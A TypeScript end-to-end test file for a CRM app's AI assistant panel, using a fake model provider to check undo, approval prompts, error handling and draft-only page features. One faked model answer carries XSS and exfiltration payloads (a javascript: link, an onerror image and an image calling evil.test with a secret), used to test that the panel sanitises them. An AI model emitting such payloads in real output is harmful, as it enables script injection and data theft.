import assert from 'node:assert/strict';
import { FakeProvider } from '../ai/fake-provider.ts';
import { eventually } from '../eventually.ts';
import { appForFile, type Json } from '../harness.ts';
import { ask, openAssistant } from './assistant-panel.ts';
import { assertAccessible, assertFits, journey, journeys } from './harness.ts';
import { settled } from './open-page.ts';

const provider = await FakeProvider.forFile();
const { url, admin, user, tenant } = await appForFile({ ...provider.env, AI_TIMEOUT: '20s' });
await admin.create('/api/ui/settings', { key: 'ai.openai', secretValue: 'sk-of-the-account' });

const permissions = ['sales:*', 'ai:write', 'ui:read', 'ui:write', 'communications:*'];
const contacts = '/api/sales/contacts';

journeys('the assistant', () => {
  journey(url, 'shows what it reads and changes, and takes it back', async ({ openConsole }) => {
    const person = await user({ permissions });
    const page = await openConsole({ as: person, at: '/m/sales/contacts?filter={"department":"Sales"}' });
    const panel = await openAssistant(page);
    await panel.getByText('On the screen: the list Contacts').waitFor();
    provider.says(
      {
        text: 'I add her.',
        calls: [
          { name: 'createRecord', args: { model: 'contacts', record: { firstName: 'Ada', lastName: 'Streamed' } } },
        ],
      },
      {
        text: '**Ada** is there. [bad](javascript:alert(1)) ![pixel](https://evil.test/?q=secret) <img src=x onerror=alert(1)>',
      },
    );
    const answer = await ask(panel, 'Add Ada Streamed');
    const sent = JSON.stringify(provider.asked[0]?.body);
    assert.ok(sent.includes('sales.contacts') && sent.includes('department'), 'the language model knows the list');
    const link = answer.getByRole('link', { name: 'Ada Streamed' });
    await link.waitFor();
    await answer.getByText('Created Contact').waitFor();
    await answer.getByText('pixel').waitFor();
    assert.deepEqual(
      [await answer.locator('img').count(), await answer.getByRole('link').count()],
      [0, 1],
      'an answer loads nothing and links to the web only',
    );
    const id = (await link.getAttribute('href'))?.split('/').at(-1);
    const { body: history } = await person.get(`${contacts}/${id}/history`);
    assert.equal(history.data[0].actor.via, 'ai');
    await assertAccessible(page);

    await answer.getByRole('button', { name: 'Undo the change' }).click();
    await answer.getByText('1 change was undone.').waitFor();
    assert.equal((await person.get(`${contacts}/${id}`)).status, 404);

    // The conversation stays after a reload, and the list contains it.
    await page.reload();
    await settled(page);
    await panel.getByText('Ada is there.').waitFor();
    await panel.getByRole('button', { name: 'New conversation' }).click();
    await panel.getByText('What can I do for you?').waitFor();
    await panel.getByRole('button', { name: 'Conversations' }).click();
    const row = panel.getByRole('listitem').filter({ hasText: 'Add Ada Streamed' });
    await row.getByRole('button', { name: 'Actions for' }).click();
    await page.getByRole('menuitem', { name: 'Rename' }).click();
    await panel.getByRole('textbox', { name: 'Name of the conversation' }).fill('About Ada');
    await panel.getByRole('button', { name: 'Save' }).click();
    await panel.getByRole('button', { name: /^About Ada/ }).click();
    await panel.getByRole('article', { name: 'Assistant' }).getByText('I add her.').waitFor();
    await panel.getByRole('button', { name: 'Conversations' }).click();
    await panel.getByRole('button', { name: 'Actions for About Ada' }).click();
    await page.getByRole('menuitem', { name: 'Delete' }).click();
    await panel.getByText('No conversations yet').waitFor();
    assert.deepEqual((await person.get('/api/ai/aiConversations')).body.data, []);

    await panel.getByRole('button', { name: 'Close the assistant' }).click();
    await panel.waitFor({ state: 'hidden' });
    await page.getByRole('button', { name: 'Assistant' }).and(page.locator(':focus')).waitFor();
  });

  journey(url, 'asks before changes, with the record before and after', async ({ openConsole }) => {
    const person = await user({ permissions });
    const { _id: id } = await person.create(contacts, {
      firstName: 'Grace',
      lastName: 'Waiting',
      phone: '+1 555 0100',
    });
    // A program requested a change for the person.
    provider.says({ calls: [{ name: 'deleteRecord', args: { model: 'contacts', id } }] }, { text: 'It waits.' });
    const messages = [{ role: 'user', content: 'Delete Grace' }];
    const asked = await person.post('/api/ai/text-completion/complete', { model: 'gpt-4o', messages });
    assert.equal(asked.status, 200, asked.text);
    const page = await openConsole({ as: person, at: `/m/sales/contacts/${id}` });
    const panel = await openAssistant(page);
    await panel.getByText('On the screen: Grace Waiting').waitFor();
    await panel.getByText('Waiting for your decision').waitFor();
    await panel.getByText('Wants to delete Contact').waitFor();
    await panel.getByRole('button', { name: 'Reject' }).click();
    await panel.getByText('Rejected. Nothing was changed.').waitFor();
    assert.equal((await person.get(`${contacts}/${id}`)).status, 200);
    await panel.getByRole('switch', { name: 'Ask before changes' }).check();
    const propose = async (phone: string) => {
      provider.says(
        { calls: [{ name: 'updateRecord', args: { model: 'contacts', id, changes: { phone } } }] },
        { text: `Please approve ${phone}.` },
      );
      const answer = await ask(panel, `Set the phone to ${phone}`);
      await answer.getByText('Wants to change Contact').waitFor();
      await answer.getByRole('term').filter({ hasText: 'Phone' }).waitFor();
      for (const value of ['+1 555 0100', phone])
        await answer.getByRole('definition').filter({ hasText: value }).waitFor();
      return answer;
    };
    const first = await propose('+1 555 0111');
    await first.getByRole('button', { name: 'Reject' }).click();
    await first.getByText('Rejected. Nothing was changed.').waitFor();
    const second = await propose('+1 555 0122');
    await assertAccessible(page);
    await second.getByRole('button', { name: 'Approve' }).click();
    await second.getByText('Approved.').waitFor();
    assert.equal((await person.get(`${contacts}/${id}`)).body.phone, '+1 555 0122');
    await page.getByRole('main').getByText('+1 555 0122').first().waitFor();
    const states = (await person.get('/api/ai/aiPendingActions?sort=createdAt')).body.data;
    assert.deepEqual(
      states.map(({ status }: Json) => status),
      ['rejected', 'rejected', 'approved'],
    );
    // The model gets no description of the screen once the person removes it.
    await panel.getByRole('button', { name: 'Do not tell the assistant what is on the screen' }).click();
    provider.says({ text: 'I see nothing.' });
    await ask(panel, 'What do I look at?');
    assert.ok(!JSON.stringify(provider.asked[0]?.body.messages.slice(-3)).includes('looks at this record'));
  });

  journey(url, 'says what went wrong, stops and tries again', async (journey) => {
    const person = await user({ permissions });
    const page = await journey.openConsole({ as: person });
    const panel = page.getByRole('region', { name: 'Assistant' });
    await page.getByRole('button', { name: 'Search or go to' }).click();
    await page.getByRole('textbox', { name: 'Search or go to' }).fill('assistant');
    await page.getByRole('button', { name: 'Open or close the assistant' }).click();
    const input = panel.getByRole('textbox', { name: 'Ask or tell the assistant' });
    await input.and(page.locator(':focus')).waitFor();
    provider.says({ status: 401 });
    const failed = await ask(panel, 'Hello');
    await failed.getByRole('alert').filter({ hasText: 'openai' }).waitFor();
    provider.says({ text: 'Hello again.' });
    await failed.getByRole('button', { name: 'Try again' }).click();
    await panel.getByText('Hello again.', { exact: true }).first().waitFor();

    provider.says({ text: 'word '.repeat(400), waitMs: 50 });
    const { left } = provider;
    await input.fill('Go on for ever');
    await input.press('Enter');
    await panel.getByText('word word').first().waitFor();
    await panel.getByRole('button', { name: 'Stop' }).click();
    await panel.getByText('Stopped. This answer is not part of the conversation.').first().waitFor();
    await eventually(async () => assert.equal(provider.left, left + 1));

    // Without a key the panel says so, and links to the settings for users who may change them.
    const elsewhere = await journey.openConsole({ as: await tenant(), viewport: 'phone' });
    const empty = await openAssistant(elsewhere);
    await empty.getByText('AI is not set up').waitFor();
    await assertFits(elsewhere);
    await empty.getByRole('link', { name: 'Open the AI settings' }).click();
    await elsewhere.getByRole('heading', { level: 1, name: 'AI settings' }).waitFor();
    await empty.waitFor({ state: 'hidden' });

    const outsider = await journey.openConsole({ as: await user({ permissions: ['sales:*', 'ui:read'] }) });
    await outsider.getByRole('button', { name: 'New record' }).waitFor();
    assert.equal(await outsider.getByRole('button', { name: 'Assistant' }).count(), 0);
    await outsider.keyboard.press('Control+j');
    assert.equal(await outsider.getByRole('region', { name: 'Assistant' }).count(), 0);
  });
});

journeys('AI on a page', () => {
  journey(url, 'summarises, fills in, filters and drafts; nothing is saved by itself', async ({ openConsole }) => {
    const person = await user({ permissions });
    const contact = await person.create(contacts, { firstName: 'Mary', lastName: 'Read', email: 'mary@example.com' });
    const page = await openConsole({ as: person, at: `/m/sales/contacts/${contact._id}` });
    provider.says({ text: 'Mary is **important**.' });
    await page.getByRole('button', { name: 'Summarise' }).click();
    await page.getByRole('dialog', { name: 'Summary' }).getByText('Mary is important.').waitFor();
    await page.keyboard.press('Escape');

    await page.goto('/app/m/sales/contacts');
    provider.says({
      text: JSON.stringify({ filter: '{"lastName":"Read"}', sort: '-createdAt', explanation: 'Everybody named Read.' }),
    });
    await page.getByRole('button', { name: 'Filter' }).click();
    await page.getByRole('textbox', { name: 'What are you looking for?' }).fill('people named Read');
    await page.keyboard.press('Enter');
    await page.getByText('Everybody named Read.').waitFor();
    assert.ok(!page.url().includes('filter'), 'the list is as it was');
    await page.getByRole('button', { name: 'Use this filter' }).click();
    await page.waitForURL(/filter=.*Read/);

    await page.goto(`/app/mail/compose?to=mary@example.com&contactId=${contact._id}`);
    provider.says({ text: JSON.stringify({ subject: 'Your order', text: 'Dear Mary,\n\nit is on its way.' }) });
    await page.getByRole('button', { name: 'Draft with AI' }).click();
    const dialog = page.getByRole('dialog', { name: 'Draft a mail' });
    await dialog.getByRole('textbox', { name: 'What should the mail achieve?' }).fill('Say that the order is sent');
    await dialog.getByRole('button', { name: 'Write the draft' }).click();
    await dialog.getByText('it is on its way.').waitFor();
    await dialog.getByRole('button', { name: 'Use this draft' }).click();
    assert.equal(await page.getByRole('textbox', { name: 'Subject' }).inputValue(), 'Your order');
    await page.getByRole('textbox', { name: 'Text' }).getByText('it is on its way.').waitFor();
    assert.equal((await person.get('/api/communications/emails')).body.data.length, 0);

    await page.goto('/app/m/sales/contacts/new');
    const found = { firstName: 'Anne', lastName: 'Bonny', email: 'not an address' };
    provider.says({ text: JSON.stringify({ record: JSON.stringify(found) }) });
    await page.getByRole('button', { name: 'Fill from text' }).click();
    await page.getByRole('textbox', { name: 'Text', exact: true }).fill('Anne Bonny, not an address');
    await page.getByRole('button', { name: 'Fill in', exact: true }).click();
    await page.getByText('3 fields were filled in.').waitFor();
    assert.equal(await page.getByRole('textbox', { name: 'Last name' }).inputValue(), 'Bonny');
    assert.equal((await person.get(`${contacts}?filter[lastName]=Bonny`)).body.data.length, 0);
  });
});
